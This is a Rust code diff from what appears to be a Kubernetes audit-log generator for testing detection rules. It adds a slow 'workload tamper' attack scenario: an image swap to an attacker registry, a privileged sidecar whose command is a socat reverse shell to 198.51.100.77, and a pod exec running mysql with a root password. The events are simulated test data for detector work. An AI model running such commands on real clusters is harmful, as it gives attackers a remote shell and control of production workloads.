@@ -1,6 +1,8 @@
 //! Attack steps, injected among the everyday traffic when `Config::attacks` is on. Each scenario is a short
 //! sequence of requests by one actor, seconds apart, drawn from the techniques the built-in rules must
-//! catch. Nothing in an event says it is an attack; the generator tells it on the side.
+//! catch; one, the tampering with a production Deployment, is slow (a legitimate CI update, minutes later an
+//! image swap, a privileged sidecar, a database session of minutes by exec) and runs beside the others.
+//! Nothing in an event says it is an attack; the generator tells it on the side.
 
 use std::sync::Arc;
 
@@ -8,6 +10,21 @@ use crate::cluster::{Cluster, Pod, sa_groups, sa_user};
 use crate::event::*;
 use crate::objects;
 use crate::rng::Rand;
+use crate::time::ts_secs;
+
+/// The workload-tamper scenario: the image CI deploys, the image and sidecar the attacker puts in its place,
+/// and the patch that swaps the image.
+const PAYMENTS_IMAGE: &str = "registry.example.com/payments/api:v1.42.3";
+const EVIL_IMAGE: &str = "evil.example/payments/api:v1.42.3";
+const IMAGE_SWAP_PATCH: &str = r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"evil.example/payments/api:v1.42.3"}]}}}}"#;
+const SIDECAR_IMAGE: &str = "docker.io/library/alpine:3.19";
+const SIDECAR_COMMAND: &[&str] = &[
+    "sh",
+    "-c",
+    "apk add --no-cache socat >/dev/null 2>&1; while true; do socat TCP:198.51.100.77:4443 EXEC:/bin/sh,pty,stderr; sleep 30; done",
+];
+/// When the Deployment was first created (it predates every run).
+const PAYMENTS_CREATED: &str = "2025-03-11T09:26:40Z";
 
 /// Where attackers come from (documentation addresses: no real host).
 const ATTACKER_IP: &str = "198.51.100.77";
@@ -24,8 +41,12 @@ pub(crate) enum Scenario {
     NodeProxy,
     Persistence,
     ProductionExec,
+    /// A slow one, up to twenty minutes (longer than a whole cycle of the others at 100 events/s): it runs
+    /// beside the cycle, not in it (see [`SLOW_SCENARIO`]).
+    WorkloadTamper,
 }
 
+/// The short scenarios, one after the other in an order each seed shuffles.
 pub(crate) const SCENARIOS: [Scenario; 9] = [
     Scenario::StolenToken,
     Scenario::RbacEscalation,
@@ -38,7 +59,12 @@ pub(crate) const SCENARIOS: [Scenario; 9] = [
     Scenario::ProductionExec,
 ];
 
-/// The steps of a scenario in order, each with its delay from the scenario's start.
+/// Starts with each cycle of [`SCENARIOS`] (from its own random stream, so that the short scenarios of a seed
+/// are where they were before it existed), unless its last run is still under way.
+pub(crate) const SLOW_SCENARIO: Scenario = Scenario::WorkloadTamper;
+
+/// The steps of a scenario in order, each with its delay from the scenario's start to when kube-apiserver
+/// receives it.
 struct Plan<'a> {
     rng: &'a mut Rand,
     t: i64,
@@ -53,6 +79,11 @@ impl Plan<'_> {
 
     fn push(&mut self, mut req: Req) {
         req.attack = true;
+        self.steps.push((self.t, req));
+    }
+
+    /// A step that is not the attacker's (the legitimate change a scenario tampers with afterwards).
+    fn push_benign(&mut self, req: Req) {
         self.steps.push((self.t, req));
     }
 
@@ -89,7 +120,8 @@ fn anonymous(ip: &str, ua: &str, reason: &str) -> Actor {
     )
 }
 
-pub(crate) fn steps(s: Scenario, rng: &mut Rand, c: &mut Cluster) -> Vec<(i64, Req)> {
+/// The steps of `s`, started at `now` (µs since the epoch).
+pub(crate) fn steps(s: Scenario, rng: &mut Rand, c: &mut Cluster, now: i64) -> Vec<(i64, Req)> {
     let mut p = Plan {
         rng,
         t: 0,
@@ -422,6 +454,136 @@ pub(crate) fn steps(s: Scenario, rng: &mut Rand, c: &mut Cluster) -> Vec<(i64, R
                 SECRETS.at("prod-payments", "stripe-api-key", ""),
                 "",
             );
+            p.push(r);
+        }
+        // One run at a time: this one is skipped while the last is under way.
+        Scenario::WorkloadTamper if now < c.payments_busy_until => {}
+        Scenario::WorkloadTamper => {
+            let (ns, name) = ("prod-payments", "payments-api");
+            let wl = c
+                .workloads
+                .iter()
+                .find(|w| w.ns == ns && w.app == name)
+                .unwrap_or(&c.workloads[0]);
+            let replicas = wl.pods.len() as i64;
+            let victim = wl.pods[0].name.clone();
+            let old_rs = format!("{name}-{}", wl.hash);
+            // The Deployment's uid is the same in every run: it is one object.
+            let uid = Rand::new(wl.template_seed, 12).uuid();
+            let new_rs = format!("{name}-{}", p.rng.suffix(10));
+            let g0 = c.payments_generation;
+            let (g1, g2) = (g0 + 1, g0 + 2);
+            c.payments_generation = g0 + 3;
+            p.wait(10_000, 120_000);
+            let ci_at = p.t;
+            let rv1 = c.bump();
+
+            // CI deploys the release: `kubectl replace` of the manifest, logged with the stored object.
+            let ci = c.ci_deployer.clone();
+            let manifest = objects::PaymentsDeployment {
+                ns,
+                name,
+                image: PAYMENTS_IMAGE,
+                replicas,
+                sidecar: None,
+                stored: None,
+            };
+            let before = ts_secs(now - p.rng.range(2 * 3600, 30 * 3600) as i64 * 1_000_000);
+            let stored = objects::PaymentsDeployment {
+                stored: Some(objects::Stored {
+                    uid: &uid,
+                    resource_version: rv1,
+                    generation: g1,
+                    created: PAYMENTS_CREATED,
+                    revision: g0 - 20,
+                    observed_generation: g0,
+                    progressed: &before,
+                    replica_set: &old_rs,
+                }),
+                ..manifest.clone()
+            };
+            let mut r = p
+                .res(
+                    &ci,
+                    "update",
+                    DEPLOYMENTS.at(ns, name, ""),
+                    "fieldManager=kubectl-replace&fieldValidation=Strict",
+                )
+                .with_object(
+                    Level::RequestResponse,
+                    objects::payments_deployment(&manifest),
+                );
+            r.response_object = Some(objects::payments_deployment(&stored));
+            r.latency_us += 6_000 + p.rng.below(12_000) as i64;
+            p.push_benign(r);
+
+            // Minutes later, a payments on-call engineer's stolen credentials swap the image...
+            let mut a = c.humans[2].clone();
+            a.ip = ATTACKER_IP.into();
+            a.ua = ATTACKER_UA.into();
+            a.reason = "RBAC: allowed by RoleBinding \"payments-oncall/prod-payments\" of ClusterRole \"edit\" to Group \"oidc:payments\"".into();
+            p.wait(180_000, 480_000);
+            let patched_at = p.t;
+            let r = p
+                .res(
+                    &a,
+                    "patch",
+                    DEPLOYMENTS.at(ns, name, ""),
+                    "fieldManager=kubectl-patch",
+                )
+                .with_object(Level::Request, objects::literal(IMAGE_SWAP_PATCH));
+            p.push(r);
+            // ...read the Deployment back...
+            p.wait(15_000, 60_000);
+            let r = p.res(&a, "get", DEPLOYMENTS.at(ns, name, ""), "");
+            p.push(r);
+            // ...and replace it with the same plus a privileged container mounting the node's root.
+            p.wait(5_000, 60_000);
+            // The patch's resourceVersion: CI's, plus the cluster's writes in between (a few dozen a second);
+            // the cluster's writes go on from there, so the next run's are later still.
+            let rv2 = rv1 + ((patched_at - ci_at) / 1_000_000) as u64 * p.rng.range(20, 40);
+            c.rv = c.rv.max(rv2 + 1);
+            let rolled = ts_secs(now + patched_at + (p.t - patched_at) / 2);
+            let body = objects::payments_deployment(&objects::PaymentsDeployment {
+                image: EVIL_IMAGE,
+                sidecar: Some(objects::Sidecar {
+                    name: "metrics-agent",
+                    image: SIDECAR_IMAGE,
+                    command: SIDECAR_COMMAND,
+                }),
+                stored: Some(objects::Stored {
+                    uid: &uid,
+                    resource_version: rv2,
+                    generation: g2,
+                    created: PAYMENTS_CREATED,
+                    revision: g2 - 20,
+                    observed_generation: g2,
+                    progressed: &rolled,
+                    replica_set: &new_rs,
+                }),
+                ..manifest
+            });
+            let mut r = p
+                .res(
+                    &a,
+                    "update",
+                    DEPLOYMENTS.at(ns, name, ""),
+                    "fieldManager=kubectl-replace&fieldValidation=Strict",
+                )
+                .with_object(Level::Request, body);
+            r.latency_us += 4_000 + p.rng.below(10_000) as i64;
+            p.push(r);
+
+            // Then a database session from inside an API pod, the password on the command line: minutes long.
+            p.wait(25_000, 150_000);
+            let r = p.res(&a, "list", PODS.all(ns), "limit=500");
+            p.push(r);
+            p.wait(5_000, 30_000);
+            let q = "command=mysql&command=-uroot&command=-pS3cr3t-Hunter2&command=payments&container=app&stdin=true&stdout=true&tty=true";
+            let mut r = p.res(&a, "create", PODS.at(ns, &victim, "exec"), q);
+            r.code = 101;
+            r.latency_us += p.rng.range(120_000, 360_000) as i64 * 1_000;
+            c.payments_busy_until = now + p.t + r.latency_us + 60_000_000;
             p.push(r);
         }
     }
